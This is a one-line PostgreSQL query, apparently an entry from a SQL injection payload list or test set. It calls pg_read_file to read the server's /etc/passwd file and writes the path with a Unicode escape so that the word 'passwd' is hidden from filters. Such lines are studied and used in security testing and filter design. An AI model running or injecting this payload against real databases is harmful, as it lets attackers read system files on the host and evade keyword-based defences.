SELECT pg_read_file(U&'/etc/p\0061sswd')
